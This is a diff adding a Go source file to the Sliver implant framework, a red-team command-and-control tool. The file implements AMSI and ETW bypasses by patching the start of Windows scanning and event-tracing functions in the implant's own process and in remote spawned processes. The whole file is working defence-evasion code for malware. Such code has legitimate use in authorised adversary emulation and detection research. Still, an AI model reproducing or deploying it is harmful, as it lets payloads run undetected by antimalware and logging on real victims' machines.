@@ -0,0 +1,224 @@
+package taskrunner
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/implant/sliver/ntapi"
+	"golang.org/x/sys/windows"
+)
+
+var (
+	amsiDllPath = "C:\\Windows\\System32\\amsi.dll" // We make this a var so the string obfuscator can refactor it
+
+	// The AMSI functions overwritten by the patch technique
+	amsiProcs = []string{"AmsiScanBuffer", "AmsiInitialize", "AmsiScanString"}
+	etwProcs  = []string{"EtwEventWrite"}
+
+	bypassTechniques = map[string]bypassTechnique{
+		BypassPatch:              {local: patchLocal, remote: patchRemote},
+		BypassHardwareBreakpoint: {local: breakpointLocal},
+	}
+)
+
+// bypassTechnique - Disables AMSI and/or ETW, remote is nil when the technique only works
+// in the implant's process
+type bypassTechnique struct {
+	local  func(amsi bool, etw bool) error
+	remote func(process windows.Handle, amsi bool, etw bool) error
+}
+
+// BypassLocal - Disable AMSI and/or ETW in the implant's process, it stays disabled
+func BypassLocal(bypass Bypass) error {
+	if !bypass.amsi() && !bypass.etw() {
+		return nil
+	}
+	technique, ok := bypassTechniques[bypass.technique()]
+	if !ok {
+		return ErrUnknownBypass
+	}
+	// {{if .Config.Debug}}
+	log.Printf("bypassing amsi: %v, etw: %v using %s", bypass.amsi(), bypass.etw(), bypass.technique())
+	// {{end}}
+	return technique.local(bypass.amsi(), bypass.etw())
+}
+
+// bypassRemote - Disable AMSI and/or ETW in a spawned process before it runs the payload
+func bypassRemote(process windows.Handle, bypass Bypass) error {
+	if !bypass.amsi() && !bypass.etw() {
+		return nil
+	}
+	technique, ok := bypassTechniques[bypass.technique()]
+	if !ok {
+		return ErrUnknownBypass
+	}
+	if technique.remote == nil {
+		return ErrBypassUnsupported
+	}
+	// {{if .Config.Debug}}
+	log.Printf("bypassing amsi: %v, etw: %v in remote process using %s", bypass.amsi(), bypass.etw(), bypass.technique())
+	// {{end}}
+	return technique.remote(process, bypass.amsi(), bypass.etw())
+}
+
+func patchLocal(amsi bool, etw bool) error {
+	if amsi {
+		err := patchAmsi()
+		if err != nil {
+			return err
+		}
+	}
+	if etw {
+		err := patchEtw()
+		if err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+func patchAmsi() error {
+	amsiDLL := windows.NewLazyDLL(amsiDllPath)
+	for _, name := range amsiProcs {
+		proc := amsiDLL.NewProc(name)
+		err := proc.Find()
+		if err != nil {
+			return err
+		}
+		// {{if .Config.Debug}}
+		log.Printf("Patching AMSI (%s)", name)
+		// {{end}}
+		err = patchProc(proc.Addr(), amsiPatch)
+		if err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+func patchEtw() error {
+	ntdll := windows.NewLazyDLL(ntdllPath)
+	etwEventWriteProc := ntdll.NewProc(etwProcs[0])
+	err := etwEventWriteProc.Find()
+	if err != nil {
+		return err
+	}
+	// {{if .Config.Debug}}
+	log.Println("Patching ETW")
+	// {{end}}
+	return patchProc(etwEventWriteProc.Addr(), etwPatch)
+}
+
+// patchProc - Overwrite the start of a function with the patch, unless it's already patched
+func patchProc(addr uintptr, patch []byte) error {
+	process := windows.CurrentProcess()
+	code := make([]byte, len(patch))
+	err := windows.ReadProcessMemory(process, addr, &code[0], uintptr(len(code)), nil)
+	if err != nil {
+		return err
+	}
+	if bytes.Equal(code, patch) {
+		return nil
+	}
+	var oldProtect uint32
+	err = windows.VirtualProtect(addr, uintptr(len(patch)), windows.PAGE_READWRITE, &oldProtect)
+	if err != nil {
+		//{{if .Config.Debug}}
+		log.Println("VirtualProtect failed:", err)
+		//{{end}}
+		return err
+	}
+	err = windows.WriteProcessMemory(process, addr, &patch[0], uintptr(len(patch)), nil)
+	if err != nil {
+		//{{if .Config.Debug}}
+		log.Println("WriteProcessMemory failed:", err)
+		//{{end}}
+		return err
+	}
+	err = windows.VirtualProtect(addr, uintptr(len(patch)), oldProtect, &oldProtect)
+	if err != nil {
+		//{{if .Config.Debug}}
+		log.Println("VirtualProtect (restauring) failed:", err)
+		//{{end}}
+		return err
+	}
+	return nil
+}
+
+func patchRemote(process windows.Handle, amsi bool, etw bool) error {
+	if amsi {
+		err := patchRemoteProcs(process, amsiDllPath, amsiProcs, amsiPatch)
+		if err != nil {
+			return err
+		}
+	}
+	if etw {
+		err := patchRemoteProcs(process, ntdllPath, etwProcs, etwPatch)
+		if err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// patchRemoteProcs - Overwrite the start of the functions in another process, the dll is
+// loaded into the process first if it isn't already. The functions are at the same offsets
+// from the dll's base as they are in our process.
+func patchRemoteProcs(process windows.Handle, dllPath string, names []string, patch []byte) error {
+	dll := windows.NewLazyDLL(dllPath)
+	err := dll.Load()
+	if err != nil {
+		return err
+	}
+	remoteBase, err := loadRemoteModule(process, dllPath)
+	if err != nil {
+		return err
+	}
+	size := uintptr(len(patch))
+	for _, name := range names {
+		proc := dll.NewProc(name)
+		err = proc.Find()
+		if err != nil {
+			return err
+		}
+		addr := remoteBase + proc.Addr() - dll.Handle()
+		// {{if .Config.Debug}}
+		log.Printf("patching %s at 0x%08x in remote process", name, addr)
+		// {{end}}
+		var oldProtect uint32
+		err = ntapi.VirtualProtect(process, addr, size, windows.PAGE_READWRITE, &oldProtect)
+		if err != nil {
+			return err
+		}
+		err = ntapi.WriteMemory(process, addr, patch)
+		if err != nil {
+			return err
+		}
+		err = ntapi.VirtualProtect(process, addr, size, oldProtect, &oldProtect)
+		if err != nil {
+			return err
+		}
+	}
+	return nil
+}